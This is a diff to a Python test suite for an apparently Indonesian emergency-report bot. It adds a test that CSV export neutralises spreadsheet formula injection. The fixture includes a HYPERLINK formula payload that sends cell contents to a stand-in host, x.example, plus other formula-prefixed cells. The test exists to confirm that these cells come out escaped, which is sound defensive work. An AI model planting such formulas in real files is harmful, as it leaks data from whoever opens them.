@@ -3,6 +3,9 @@ past 99999; drafts of a call taker who was removed."""
 
 from __future__ import annotations
 
+import csv
+import io
+import re
 from datetime import datetime
 from pathlib import Path
 from zoneinfo import ZoneInfo
@@ -86,3 +89,22 @@ def test_a_call_taker_removed_midway_cannot_finish_the_form(running: BotProcess,
     assert "tidak lagi terdaftar" in answer["text"]
     again = fake.wait_for_answer(fake.press(rina, rina, fake.last(rina).message_id, subtype))
     assert again["text"] == "Formulir ini sudah tidak berlaku. Kirim /lapor untuk memulai lagi."
+
+
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula(process: BotProcess, tmp_path: Path) -> None:
+    data = tmp_path / "evil.csv"
+    rows = [["waktu", "kategori", "kecamatan", "alamat", "keterangan"],
+            ["2026-01-05T10:00:00+09:00", "medis", "Sirimau", '=HYPERLINK("http://x.example/?d="&A1,"klik")',
+             "@SUM(1+1)"],
+            ["2026-01-05T11:00:00+09:00", "medis", "Sirimau", "+62 lewat telepon", "-1+2"],
+            ["2026-01-05T12:00:00+09:00", "medis", "Sirimau", "\tdi tab", "biasa"]]
+    with data.open("w", newline="") as fh:
+        csv.writer(fh).writerows(rows)
+    process.cli("import", "--format", "csv", str(data))
+    exported = process.cli("export", "--from", "2026-01-05", "--to", "2026-01-05", "--format", "csv").stdout
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or re.match(r"^-(?!\d+(\.\d+)?$)", c)]
+    assert "'=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\")" in cells and "'@SUM(1+1)" in cells
+    assert "'-1+2" in cells and "biasa" in cells
+    stats = process.cli("stats", "--from", "2026-01-05", "--to", "2026-01-05", "--format", "csv").stdout
+    assert not any(c.startswith("=") for row in csv.reader(io.StringIO(stats)) for c in row)
